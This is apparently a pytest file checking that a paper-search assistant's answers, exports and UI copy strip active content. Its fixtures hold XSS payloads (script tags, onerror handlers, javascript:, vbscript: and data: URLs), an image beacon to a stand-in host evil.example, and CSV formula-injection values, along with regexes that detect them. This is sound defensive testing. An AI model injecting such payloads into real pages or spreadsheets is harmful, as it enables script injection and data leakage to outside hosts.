"""What users copy and export carries no image, no raw HTML and no link but http(s) ones (issue 24 item 2).

A hostile corpus (script tags, event handlers and Markdown links in titles, names and abstracts; `javascript:`,
`data:` and entity-encoded URLs) is indexed the way an index built before this change holds it (the read-time
URL check turned off), so every output's own check is what is tested. A scripted LLM answers with one supported
sentence plus an image beacon, a script tag and a `javascript:` link. Every output format of the CLI, the export
and the UI's Copy / Export / BibTeX functions is checked; Markdown by rendering it with a real CommonMark renderer
(tests/test_safe_text.py)."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from rag.adapters.fakes import ScriptedChatModel
from rag.corpus import read_papers
from rag.factory import build_index, open_assistant, open_retriever
from rag.settings import BUNDLED_CORPUS, Settings, load_settings
from tests.conftest import CLI
from tests.fault_server import FaultServer
from tests.reliability_helpers import WELLS, write_jsonl
from tests.test_safe_text import _Tags as Tags
from tests.test_safe_text import assert_inert
from ui import session
from ui.chat_flow import chat_updates
from ui.form_inputs import Options
from ui.message import View

SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    {
        "id": "evil-01",
        "title": f"Satellite mapping of Alberta oil wells {SCRIPT} <img src=x onerror=alert(2)> "
                 "[x](javascript:alert(3))",
        "authors": ["<b onclick=alert(4)>Eve Mallory</b>", "Bob [Builder](javascript:alert(5))"],
        "venue": "<iframe src=javascript:alert(6)></iframe>Journal of Wells",
        "year": 2024,
        "url": "JaVaScRiPt:alert(7)",
        "code_url": "data:text/html,<script>alert(8)</script>",
        "doi": "10.1000/<script>x</script>",
        "abstract": "We map 4,200 abandoned oil and gas wells in Alberta from satellite imagery. "
                    "![chart](http://evil.example/beacon.png?d=secret) " + SCRIPT +
                    " See [our site](javascript:alert(9)).",
    },
    {
        "id": "evil-02",
        "title": '=HYPERLINK("http://evil.example/?d=secret","Click me") wells of Alberta',
        "authors": ["@SUM(A1:A2)", "-2+3"],
        "year": 2023,
        "url": "&#106;avascript:alert(10)",
        "code_url": " java\tscript:alert(11)",
        "abstract": "+Alberta wells dataset notes: orphan wells are counted by the regulator each year.",
    },
    {
        "id": "evil-03",
        "title": "Orphan well reclamation costs",
        "url": "vbscript:msgbox(12)",
        "code_url": "https://github.com/good/repo",
        "abstract": "Reclaiming an orphan well costs about 100,000 dollars on average in Alberta.",
    },
]
NOT_HTTP = re.compile(r"(?i)(?:java\s*script|vbscript|data)\s*:")  # in model text; metadata keeps its text
URL_FIELD = re.compile(r"(?m)^  (?:url|code_url) = \{([^}]*)\}")
ACTIVE_TAG = re.compile(r"(?i)<\s*/?\s*(?:script|img|iframe|svg|object|embed|a|b\s)|\son\w+\s*=")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory, bundled_settings: Settings, minilm: object) -> Iterator[Path]:
    """The bundled corpus and the hostile papers, indexed as a version without the read-time URL check would (from a
    copy of the session's bundled index: only the hostile papers are embedded)."""
    home = tmp_path_factory.mktemp("untrusted") / "home"
    corpus = write_jsonl(tmp_path_factory.mktemp("corpus") / "hostile.jsonl", HOSTILE)
    settings = load_settings(home=home, env={})
    shutil.copytree(bundled_settings.index_dir, settings.index_dir)
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("rag.corpus.paper_fields._link", lambda value: value if isinstance(value, str) else None,
                   raising=False)  # (raising=False: the tests also run against the code before the check)
        report = build_index(settings, [BUNDLED_CORPUS, corpus], embedder=minilm)  # type: ignore[arg-type]
    assert (report.embedded, report.removed) == (len(HOSTILE), 0)
    stored = open_retriever(settings, embedder=minilm).paper("evil-01")  # type: ignore[arg-type]
    assert stored is not None and stored.url == "JaVaScRiPt:alert(7)"  # the index holds the hostile URLs
    yield home


@pytest.fixture
def cli(home: Path, minilm: object, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> CLI:
    monkeypatch.setattr("rag.factory.make_embedder", lambda settings, **_: minilm)
    monkeypatch.setenv("RAG_VERIFY", "offline")
    return CLI(home, capsys)


def _numbers(home: Path, minilm: object) -> tuple[int, int]:
    """The source numbers of the Alberta Wells paper and of the hostile one for WELLS."""
    settings = load_settings(home=home, env={})
    hits = open_retriever(settings, embedder=minilm).search(WELLS, settings.retrieval.k)  # type: ignore[arg-type]
    ids = [h.paper.id for h in hits]
    assert "icml2025-00" in ids and "evil-01" in ids, ids
    return ids.index("icml2025-00") + 1, ids.index("evil-01") + 1


def _reply(good: int, evil: int) -> str:
    return (
        f"The Alberta Wells Dataset comprises over 213,000 wells [{good}]. Another survey maps 4,200 abandoned oil "
        f"and gas wells in Alberta [{evil}]. ![x](http://evil.example/?d=secret) {SCRIPT} "
        "[click here](javascript:alert(1)) <img src=x onerror=alert(2)> <JaVaScRiPt:alert(3)> "
        f"The dataset is described in [the paper](https://arxiv.org/abs/2410.09032) [{good}]."
    )


def assert_clean_markdown(text: str, model_text: bool = True) -> None:
    """Rendered: Markdown's own tags only, no image, links only to http(s) showing their domain. Model text also
    names no javascript:/data: URL and not the beacon (metadata keeps its text, escaped, e.g. a title)."""
    assert_inert(text)
    if model_text:
        assert not NOT_HTTP.search(text) and "evil.example" not in text, text


def assert_kept(text: str, good: int, evil: int) -> None:
    """The legitimate content is intact: both supported sentences with their markers, and the http(s) link."""
    assert f"The Alberta Wells Dataset comprises over 213,000 wells [{good}]." in text, text
    assert f"Another survey maps 4,200 abandoned oil and gas wells in Alberta [{evil}]." in text, text
    assert "the paper ([arxiv.org](https://arxiv.org/abs/2410.09032))" in text, text


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


# ---- rag ask


@pytest.mark.timeout(120)
def test_rag_ask_json_markdown_and_bibtex_carry_nothing_active(cli: CLI, home: Path, minilm: object) -> None:
    good, evil = _numbers(home, minilm)
    with FaultServer([], reply=_reply(good, evil), rules=[("", "ok")]) as server:
        llm = ("--llm", "openai", "--base-url", server.base_url, "--model", "x")
        code, out, err = cli("ask", WELLS, "--json", *llm)
        assert code == 0, err
        assert "<" not in out and ">" not in out  # escaped in the bytes (\u003c): no tag a page could pick up
        record = json.loads(out)
        assert record["backend"] == "openai"
        assert_kept(record["answer"], good, evil)
        for text in [record["answer"], *record["unsupported"], *(c["sentence"] for c in record["sentence_checks"])]:
            assert_clean_markdown(text)
        urls = [x["url"] for x in record["sources"] + record["citations"]]
        assert all(u is None or u.startswith(("https://", "http://")) for u in urls), urls
        assert record["sources"][evil - 1]["url"] is None  # the javascript: URL is not passed on

        code, out, err = cli("ask", WELLS, "--format", "markdown", *llm)
        assert code == 0, err
        assert_clean_markdown(out, model_text=False)
        assert_clean_markdown(out.split("\n\n")[1])  # the answer text
        assert_kept(out, good, evil)
        assert "Satellite mapping of Alberta oil wells \\<script\\>" in out  # the hostile title, as text
        assert re.search(rf"^- \[{good}\] .*\[arxiv\.org\]\(https://arxiv\.org/abs/2410\.09032\)$", out, re.M), out

        code, out, err = cli("ask", WELLS, "--format", "bibtex", *llm)
        assert code == 0, err
        assert "@misc{evil-01," in out or "@article{evil-01," in out
        assert "<" not in out and ">" not in out, out
        assert "\\textless{}script\\textgreater{}" in out  # the title keeps its text, as LaTeX prints it
        assert URL_FIELD.findall(out) == ["https://arxiv.org/abs/2410.09032",
                                          "https://github.com/RolnickLab/Alberta_Wells_Dataset"]  # the good paper's


def test_the_extractive_code_answer_names_no_data_url(cli: CLI) -> None:
    record = cli.ask_json("Where can I find the code for the satellite mapping of Alberta oil wells?")
    assert record["sources"][0]["paper_id"] == "evil-01"
    assert_clean_markdown(record["answer"])  # no data: URL named, nothing active
    record = cli.ask_json("Where is the code for orphan well reclamation costs?")
    assert "https://github.com/good/repo" in record["answer"]  # an http(s) code link is still given


# ---- rag export


def test_rag_export_jsonl_bibtex_csv_carry_nothing_active(cli: CLI, tmp_path: Path) -> None:
    outputs = {}
    for fmt in ("jsonl", "bibtex", "csv"):
        code, out, err = cli("export", "--format", fmt)
        assert code == 0, err
        outputs[fmt] = out
    assert "<" not in outputs["jsonl"] and "<" not in outputs["bibtex"]
    bib_urls = URL_FIELD.findall(outputs["bibtex"])
    assert bib_urls and all(u.startswith("https://") for u in bib_urls)
    assert not ACTIVE_TAG.search(outputs["csv"]), ACTIVE_TAG.search(outputs["csv"])
    records = {r["id"]: r for r in map(json.loads, outputs["jsonl"].splitlines())}
    assert records["evil-01"]["title"].startswith(f"Satellite mapping of Alberta oil wells {SCRIPT}")  # data kept
    assert "url" not in records["evil-01"] and "code_url" not in records["evil-01"]
    assert records["evil-03"]["code_url"] == "https://github.com/good/repo"
    assert records["icml2025-00"]["url"] == "https://arxiv.org/abs/2410.09032"
    rows = list(csv.DictReader(io.StringIO(outputs["csv"])))
    assert all(row[name] == "" or row[name].startswith("https://") for row in rows for name in ("url", "code_url"))
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
    evil2 = next(row for row in rows if row["id"] == "evil-02")
    assert evil2["title"].startswith("'=HYPERLINK(") and evil2["authors"] == "'@SUM(A1:A2); -2+3"
    # and every file reads back: JSON Lines and BibTeX to the same text, CSV without what it had to leave out
    for fmt, name in (("jsonl", "back.jsonl"), ("bibtex", "back.bib"), ("csv", "back.csv")):
        path = tmp_path / name
        path.write_text(outputs[fmt], encoding="utf-8")
        back = {p.id: p for p in read_papers([path])}
        assert back["evil-02"].title.startswith('=HYPERLINK("http://evil.example/?d=secret"')
        assert back["evil-02"].authors[0] == "@SUM(A1:A2)"
        # no javascript: URL; BibTeX and CSV also dropped the <script> from the DOI, whose link then stands in
        assert back["evil-01"].url == (None if fmt == "jsonl" else "https://doi.org/10.1000/x")
        if fmt != "csv":
            assert back["evil-01"].title == HOSTILE[0]["title"]


def test_markdown_inside_an_abstract_is_data_in_exports(cli: CLI, tmp_path: Path) -> None:
    """Issue 37 item 14, decided: JSONL, BibTeX and CSV exports are data for other tools (and `rag index` reads them
    back), so a Markdown image or link written inside an abstract stays as the text it is there; no export format
    renders Markdown. Where text is rendered (`rag ask --format markdown`, the UI) it is made inert: the tests above."""
    image, link = "![chart](http://evil.example/beacon.png?d=secret)", "[our site](javascript:alert(9))"
    for fmt in ("jsonl", "bibtex", "csv"):
        code, out, err = cli("export", "--format", fmt)
        assert code == 0, err
        path = tmp_path / f"back.{'bib' if fmt == 'bibtex' else fmt}"
        path.write_text(out, encoding="utf-8")
        abstract = {p.id: p for p in read_papers([path])}["evil-01"].abstract
        assert image in abstract and link in abstract, (fmt, abstract)  # kept verbatim: data


# ---- the UI's Copy, Export conversation and Copy BibTeX


def test_ui_copy_and_exports_carry_nothing_active(home: Path, minilm: object) -> None:
    good, evil = _numbers(home, minilm)
    settings: Settings = load_settings(home=home, env={}).replace(verify="offline")
    assistant = open_assistant(settings, embedder=minilm, chat_model=ScriptedChatModel([_reply(good, evil)]))  # type: ignore[arg-type]
    try:
        asked = session.start(WELLS, [], {})
        options = lambda: Options(llm="openai", model=None, k=None, filters=None, summary=None)  # noqa: E731
        *_, (history, state) = chat_updates(assistant, View(), *asked, options)
        answer = state["turns"][-1].answer
        assert answer is not None and answer.backend == "fake"
        copied = session.latest_copy(state, View())
        exported = session.export_markdown(state)
        for text in (copied, exported):
            assert_clean_markdown(text, model_text=False)
            assert_kept(text, good, evil)
        assert_clean_markdown(answer.text)
        bib = session.cited_bibtex(state, assistant.retriever.paper)
        assert "evil-01," in bib and "<" not in bib, bib
        assert all(u.startswith("https://") for u in URL_FIELD.findall(bib)), bib
        shown = Tags()
        shown.feed(history[-1]["content"])  # the chat message itself: our HTML, the texts escaped in it
        assert not {tag for tag, _ in shown.tags} & {"script", "img", "iframe", "svg", "object", "embed"}
        attributes = [(name, value or "") for _, attrs in shown.tags for name, value in attrs.items()]
        assert not [name for name, _ in attributes if name.startswith("on")]
        assert all(v.startswith(("#", "https://", "http://")) for name, v in attributes if name in ("href", "src"))
    finally:
        assistant.close()


# ---- read time


def test_urls_that_are_not_http_are_dropped_when_read(tmp_path: Path) -> None:
    papers = {p.id: p for p in read_papers([write_jsonl(tmp_path / "h.jsonl", HOSTILE)])}
    assert [(p.url, p.code_url) for p in papers.values()] == [(None, None), (None, None),
                                                               (None, "https://github.com/good/repo")]  # fmt: skip
    assert papers["evil-01"].title == HOSTILE[0]["title"]  # text is data: each output escapes it its own way
